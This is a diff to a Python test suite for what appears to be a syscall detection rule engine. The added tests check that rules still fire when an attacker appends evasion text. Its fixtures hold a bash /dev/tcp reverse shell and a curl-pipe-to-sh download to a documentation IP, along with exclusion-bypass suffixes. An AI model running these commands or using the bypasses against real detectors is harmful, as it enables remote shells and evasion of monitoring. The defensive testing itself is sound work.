@@ -26,6 +26,7 @@ from click.testing import CliRunner
 
 from cli.main import main
 from lanner import Engine, Event, builtin_sources, compile_rules, load_rules
+from lanner.ruletests import load_rule_tests, rule_test_files, run_rule_tests
 
 ROOT = Path(__file__).resolve().parent.parent
 RULES_FILE = ROOT / "rules" / "syscall_rules.yaml"
@@ -224,6 +225,69 @@ def test_results_that_count(event: str, change: dict[str, Any], still: bool, rul
     doc = copy.deepcopy(load(event))
     doc.update(change)
     assert bool(fired(rules, doc)) is still
+
+
+# --- rule tests (rules/tests/syscall) ----------------------------------------------------------
+
+RULE_TESTS = ROOT / "rules" / "tests" / "syscall"
+
+
+def test_rule_tests_pass_with_a_fires_and_a_quiet_example_per_rule() -> None:
+    """What `lanner rules test` reports for these rules: every one PASS. Among the fires
+    examples are the bypasses (text an attacker appends to satisfy an exclusion)."""
+    ruleset = load_rules([str(RULES_FILE)])
+    tests = load_rule_tests(rule_test_files(RULE_TESTS), ruleset)
+    report = {r.rule: [r.status, *map(str, r.failures)] for r in run_rule_tests(ruleset, tests)}
+    assert {rule: got for rule, got in report.items() if got != ["PASS"]} == {}
+    assert sorted(report) == sorted(RULE_NAMES)
+
+
+BYPASSES = [
+    (
+        "Shell Command Uses Dev TCP",
+        {"proc.args": ["-c", "bash -i >& /dev/tcp/203.0.113.50/443 0>&1 # /dev/tcp/127.0.0.1/"]},
+    ),
+    (
+        "Shell Command Uses Dev TCP",
+        {"proc.args": ["-c", "bash -i >& /dev/tcp/203.0.113.50/443 0>&1", "/dev/tcp/localhost/1"]},
+    ),
+    (
+        "Shell Started By Network Service",
+        {"proc.args": ["-c", "curl -s http://203.0.113.50/p | sh # wal-g pgbackrest"]},
+    ),
+    (
+        "Shell Started By Network Service",
+        {
+            "proc.acmdline": [
+                "sh -c ...",
+                "postgres: 16/main: app x: archiver 10.0.7.21(51544) COPY",
+                "/usr/lib/postgresql/16/bin/postgres",
+                "/sbin/init",
+            ]
+        },
+    ),
+    (
+        "Program Run From Memory File",
+        {"proc.name": "runc", "proc.exepath": "memfd:runc_cloned:x (deleted)"},
+    ),
+]
+BYPASS_BASE = {
+    "Shell Command Uses Dev TCP": "dev_tcp_reverse_shell.json",
+    "Shell Started By Network Service": "shell_from_service.postgres_copy_program.json",
+    "Program Run From Memory File": "memfd_exec.json",
+}
+
+
+@pytest.mark.parametrize(
+    ("rule", "change"), BYPASSES, ids=[f"{r}-{i}" for i, (r, _) in enumerate(BYPASSES)]
+)
+def test_appended_text_does_not_switch_a_rule_off(
+    rule: str, change: dict[str, Any], rules: Engine
+) -> None:
+    doc = copy.deepcopy(load(BYPASS_BASE[rule]))
+    doc.update(change)
+    doc.pop("proc.cmdline", None)  # derived from proc.args, as the alert shows it
+    assert rule in fired(rules, doc)
 
 
 # --- ordinary work -----------------------------------------------------------------------------
